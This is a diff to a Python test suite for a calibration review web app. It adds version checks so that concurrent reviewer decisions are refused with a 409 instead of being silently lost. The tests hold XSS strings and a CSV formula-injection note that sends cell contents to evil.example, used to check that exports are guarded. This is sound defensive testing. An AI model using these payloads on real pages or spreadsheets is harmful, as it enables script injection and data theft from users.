@@ -25,7 +25,9 @@ from sqlalchemy.orm import Session
 from framejudge.calibration.inputs import load_human_labels
 from framejudge.service.review.routes import templates
 from framejudge.service.store import ApiKey, CalibrationRun, create_key, revoke_key, save_calibration
-from tests.service.test_review import ITEMS, _turn, calibration, csrf_of, decide, review_app, sign_in
+from tests.postgres import database_url  # noqa: F401 - the fixture
+from tests.service.test_review import (ITEMS, _turn, calibration, csrf_of, decide, review_app, sign_in, unit_version,
+                                       version_in)
 
 SCRIPT = "<script>alert(1)</script>"
 QUOTE = '"><img src=x onerror=alert(1)>'
@@ -219,7 +221,7 @@ def test_every_annotator_can_be_adopted_and_nine_have_shortcuts(env):
     client = env["client"]
     sign_in(client, owner)
     page = client.get(f"/review/{run_id}/unit", params={"item": "short"}).text
-    buttons = re.findall(r'<button [^>]*class="adopt-annotator"[^>]*>', page)
+    buttons = re.findall(r'<input type="radio" [^>]*class="adopt-annotator"[^>]*>', page)
     assert len(buttons) == 12
     assert [re.search(r'data-key="(\d)"', b).group(1) for b in buttons[:9]] == [str(n) for n in range(1, 10)]
     assert not any("data-key" in b for b in buttons[9:])
@@ -237,24 +239,58 @@ def test_a_slice_whose_key_holds_a_colon_still_filters(env):
 
 # ------------------------------------------------------------------------ forms and bodies
 
-def test_two_browsers_deciding_at_once_keep_every_decision(env):
+@pytest.mark.parametrize("database_url", ["sqlite", "postgres"], indirect=True)
+def test_two_browsers_deciding_at_once_keep_each_decision_made_on_what_its_reviewer_saw(tmp_path, database_url):
+    """Decisions on different units at once are all kept; of decisions made at once on the same
+    sight of one unit, one is kept and each other is refused (409, the unit shown again as it now
+    stands), nothing lost silently and nothing decided on a unit its reviewer did not see."""
+    with review_app(tmp_path, database_url) as env:
+        env.update(calibration(env))
+        two_browsers_at_once(env)
+
+
+def two_browsers_at_once(env: dict[str, Any]) -> None:
     from concurrent.futures import ThreadPoolExecutor
 
     first, second = TestClient(env["client"].app), TestClient(env["client"].app)
     sign_in(first, env["owner"])
     sign_in(second, env["second"])
-    tokens = {id(c): csrf_of(c.get("/review").text) for c in (first, second)}
+    pages = {id(c): c.get(f"/review/{env['id']}/unit", params={"item": "split"}).text for c in (first, second)}
+    assert version_in(pages[id(first)]) == version_in(pages[id(second)])  # both see the unit undecided
 
-    def post(n: int) -> int:
+    def post(n: int) -> tuple[int, str]:
         client = (first, second)[n % 2]
-        return client.post(f"/review/{env['id']}/decide", data={"csrf": tokens[id(client)], "item": "split", "turn": "0",
-                                                               "action": "manual", "category_a": "Successful",
-                                                               "note": str(n)}, follow_redirects=False).status_code
+        got = client.post(f"/review/{env['id']}/decide",
+                          data={"csrf": csrf_of(pages[id(client)]), "item": "split", "turn": "0",
+                                "version": version_in(pages[id(client)]), "action": "manual",
+                                "category_a": "Successful", "note": str(n)}, follow_redirects=False)
+        return got.status_code, got.text
 
     with ThreadPoolExecutor(4) as pool:
-        assert set(pool.map(post, range(12))) == {303}
+        answers = list(pool.map(post, range(12)))
+    statuses = [status for status, _ in answers]
+    assert statuses.count(303) == 1 and statuses.count(409) == 11, statuses
+    refused = next(text for status, text in answers if status == 409)
+    assert "has changed since it was shown" in html.unescape(refused) and "nothing was saved" in html.unescape(refused)
+    assert version_in(refused) != version_in(pages[id(first)])  # the unit again, as it now stands
     got = env["client"].get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json()
-    assert sorted(int(d["note"]) for d in got) == list(range(12))
+    assert [int(d["note"]) for d in got] == [statuses.index(303)]
+    assert got[0]["unit_version"] == version_in(pages[id(first)])
+
+    units = [("disputed", 0), ("agreed", 0), ("talk", 0), ("talk", 1)]
+
+    def other(n: int) -> int:
+        client = (first, second)[n % 2]
+        item, turn = units[n]
+        page = client.get(f"/review/{env['id']}/unit", params={"item": item, "turn": turn}).text
+        return client.post(f"/review/{env['id']}/decide", data={
+            "csrf": csrf_of(page), "item": item, "turn": str(turn), "version": version_in(page), "action": "manual",
+            "category_a": "Successful", "note": f"{item} {turn}"}, follow_redirects=False).status_code
+
+    with ThreadPoolExecutor(4) as pool:
+        assert list(pool.map(other, range(len(units)))) == [303] * len(units)
+    got = env["client"].get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json()
+    assert sorted(d["note"] for d in got[1:]) == sorted(f"{i} {t}" for i, t in units)
 
 
 @pytest.mark.parametrize("turn", ["²", "9" * 5000, "-1", " 1", "0x1"])
@@ -281,7 +317,9 @@ def test_a_form_whose_turn_is_not_a_number_gets_a_page(env, turn):
     ({"item_id": "disputed", "action": "skip", "flag_rubric": "yes"}, "flag_rubric: Input should be a valid boolean"),
 ])
 def test_api_decisions_that_would_drop_or_misread_something_are_refused(env, body, words):
-    got = env["client"].post(f"/v1/calibrate/{env['id']}/decisions", json=body, headers=bearer(env["owner"]))
+    version = unit_version(env["client"], env["id"], env["owner"], "disputed")  # each refused for what it says
+    got = env["client"].post(f"/v1/calibrate/{env['id']}/decisions", json={**body, "unit_version": version},
+                             headers=bearer(env["owner"]))
     assert got.status_code == 422 and words in got.json()["detail"], got.text
     assert env["client"].get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json() == []
 
@@ -336,7 +374,8 @@ def test_csv_exports_guard_formula_cells_and_read_them_back_unchanged(env, tmp_p
     client, owner = env["client"], bearer(env["owner"])
     note = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     made = client.post(f"/v1/calibrate/{env['id']}/decisions", headers=owner,
-                       json={"item_id": "disputed", "action": "adopt_judge", "cause": "humans_wrong", "note": note})
+                       json={"item_id": "disputed", "action": "adopt_judge", "cause": "humans_wrong", "note": note,
+                             "unit_version": unit_version(client, env["id"], env["owner"], "disputed")})
     assert made.status_code == 201, made.text
     got = client.get(f"/v1/calibrate/{env['id']}/labels", params={"format": "csv"}, headers=owner)
     cells = [c for row in csv.reader(io.StringIO(got.text, newline="")) for c in row]
